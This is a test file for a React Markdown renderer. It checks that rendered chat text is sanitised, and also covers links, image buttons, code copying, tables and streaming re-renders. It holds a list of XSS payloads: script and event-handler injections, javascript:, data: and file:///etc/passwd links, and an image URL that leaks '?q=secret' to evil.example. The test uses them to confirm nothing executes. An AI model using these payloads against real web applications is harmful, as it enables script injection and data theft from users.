import { cleanup, render, screen } from "@testing-library/react";
import { userEvent } from "@testing-library/user-event";
import { afterEach, expect, test, vi } from "vitest";
import "../../../renderer/i18n.ts";
import { LinkProvider } from "../../../renderer/markdown/link-context.ts";
import { Markdown } from "../../../renderer/markdown/markdown.tsx";

afterEach(cleanup);

function show(text: string, openLink: (url: string) => void = () => undefined): HTMLElement {
  return render(
    <LinkProvider value={openLink}>
      <Markdown text={text} streaming={false} />
    </LinkProvider>,
  ).container;
}

const payloads = [
  "<script>window.broken = true</script>",
  '<img src=x onerror="window.broken = true">',
  "<svg onload=alert(1)></svg>",
  "[click](javascript:window.broken=true)",
  "[click](JaVaScRiPt&colon;alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](file:///etc/passwd)",
  "[click](vbscript:x)",
  "<javascript:alert(1)>",
  '<iframe src="https://evil.example"></iframe>',
  '<form action="https://evil.example"><input name=a></form>',
  "<style>body { display: none }</style>",
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle="alert(1)">x</details>',
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![x](file:///etc/passwd)",
  "![x](https://evil.example/pixel.png?q=secret)",
  "![x][1]\n\n[1]: https://evil.example/pixel.png",
  "[x]: javascript:alert(1)\n\n[x]",
  "```html onload=alert(1)\n<script>alert(1)</script>\n```",
  '<https://evil.example/"onmouseover=alert(1)>',
];

test.each(payloads)("nothing can run, load, style or submit: %s", (payload) => {
  const container = show(payload);
  expect(
    container.querySelectorAll("script, img, iframe, form, style, object, embed, input, video, base"),
  ).toHaveLength(0);
  for (const element of container.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^(on|src|srcset|style$|action|formaction)/);
      if (name === "href") expect(value).toMatch(/^(https?|mailto):/);
    }
  }
  expect("broken" in window).toBe(false);
});

test("raw HTML is shown as the text it is", () => {
  expect(show("<b>bold</b> and <div onclick=x>block</div>").textContent).toBe(
    "<b>bold</b> and <div onclick=x>block</div>",
  );
});

test("a link hands its address on and does not navigate", async () => {
  const openLink = vi.fn();
  show("[the guide](https://example.org/a?b=1)", openLink);
  await userEvent.click(screen.getByRole("link", { name: "the guide" }));
  expect(openLink).toHaveBeenCalledWith("https://example.org/a?b=1");
});

test("a remote image is a button with its name and address", async () => {
  const openLink = vi.fn();
  show("![a chart](https://example.org/c.png)", openLink);
  await userEvent.click(screen.getByRole("button", { name: "Image: a chart (https://example.org/c.png)" }));
  expect(openLink).toHaveBeenCalledWith("https://example.org/c.png");
});

test("code has its language, a copy button that says so, and a name for the keyboard", async () => {
  const user = userEvent.setup();
  show("```python\nprint(1)\n\nprint(2)\n```");
  expect(screen.getByRole("region", { name: "Code: python" }).tabIndex).toBe(0);
  await user.click(screen.getByRole("button", { name: "Copy code" }));
  expect(await screen.findByRole("button", { name: "Copied" })).toBeTruthy();
  expect(await navigator.clipboard.readText()).toBe("print(1)\n\nprint(2)");
});

test("tables, task lists and Chinese emphasis", () => {
  const container = show("| a | b |\n|--|--|\n| 1 | 2<br>3 |\n\n- [x] done\n- [ ] open\n\n**注意：**正文");
  expect(screen.getByRole("region", { name: "Table" }).querySelectorAll("td")).toHaveLength(2);
  expect(container.querySelectorAll("td br")).toHaveLength(1);
  expect(screen.getByRole("img", { name: "Done" })).toBeTruthy();
  expect(screen.getByRole("img", { name: "To do" })).toBeTruthy();
  expect(container.querySelector("strong")?.textContent).toBe("注意：");
});

test("what has settled is not mounted again while the text grows, nor when it ends", () => {
  const text = "# One\n\ntwo\n\nthree";
  const { container, rerender } = render(<Markdown text={text} streaming />);
  const heading = container.querySelector("h1");
  rerender(<Markdown text={`${text}\n\nfour\n\nfive`} streaming />);
  rerender(<Markdown text={`${text}\n\nfour\n\nfive`} streaming={false} />);
  expect(container.querySelector("h1")).toBe(heading);
  expect(container.querySelectorAll("p")).toHaveLength(4);
});
